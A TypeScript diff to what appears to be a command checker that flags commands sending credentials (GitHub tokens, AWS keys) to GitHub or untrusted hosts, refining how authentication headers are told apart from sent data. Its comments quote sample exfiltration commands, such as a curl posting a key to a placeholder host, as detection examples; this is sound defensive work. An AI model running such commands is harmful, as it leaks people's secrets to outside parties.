@@ -28,9 +28,11 @@ export function checkExfiltration(pc: PackContext): void {
     // a credential written out in the command (`gh issue comment --body "ghp_…"`, `curl -d "key=AKIA…" https://x.example`):
     // to GitHub it is published; to an untrusted host it is sent away, also as a login, except to the service that issued it
     // (`-H "Authorization: Bearer sk-…" https://api.openai.com`, GitHub given its own token)
-    if (c.github !== undefined || untrusted) {
-      const sent = findSecret(sentArgs(c.args).join('\n'));
-      const login = sent === undefined && c.github === undefined ? findSecret(c.args.join('\n')) : undefined;
+    // (every credential pattern is longer than 10 characters: commands of short words are passed over)
+    if ((c.github !== undefined || untrusted) && c.args.some((x) => x.length > 10)) {
+      const sentWords = sentArgs(c.args);
+      const sent = findSecret(sentWords.join('\n'));
+      const login = sent === undefined && c.github === undefined && sentWords !== c.args ? findSecret(c.args.join('\n')) : undefined;
       const found = sent ?? (login !== undefined && !issuedBy(login, c.urls) ? login : undefined);
       if (found) pc.add('exfiltration.secret-in-args', 'deny', `sends a ${found} to ${c.github !== undefined ? 'GitHub' : hostsOf(c.urls)}`, c.text);
     }
@@ -264,13 +266,16 @@ function tunnelOf(name: string, args: readonly string[]): string | undefined {
 /** HTTP client options whose value authenticates the request to its own host (a header, a user, a bearer token) */
 const AUTH_OPTIONS: ReadonlySet<string> = new Set(['-H', '--header', '-u', '--user', '--oauth2-bearer', '-a', '--auth']);
 
-/** A network command's words without the credentials that authenticate it: what it sends, not how it logs in. */
-function sentArgs(args: readonly string[]): string[] {
+const AUTH_WORD = /^(?:--header=|--user=|-H.|authorization\s*:|x-api-key\s*:|private-token\s*:)/i;
+
+/** A network command's words without the credentials that authenticate it: what it sends, not how it logs in (`args` itself when none do). */
+function sentArgs(args: readonly string[]): readonly string[] {
+  if (!args.some((a) => AUTH_OPTIONS.has(a) || AUTH_WORD.test(a))) return args;
   const out: string[] = [];
   for (let i = 0; i < args.length; i++) {
     const a = args[i]!;
     if (AUTH_OPTIONS.has(a)) i++;
-    else if (!/^(?:--header=|--user=|-H.|authorization\s*:|x-api-key\s*:|private-token\s*:)/i.test(a)) out.push(a);
+    else if (!AUTH_WORD.test(a)) out.push(a);
   }
   return out;
 }
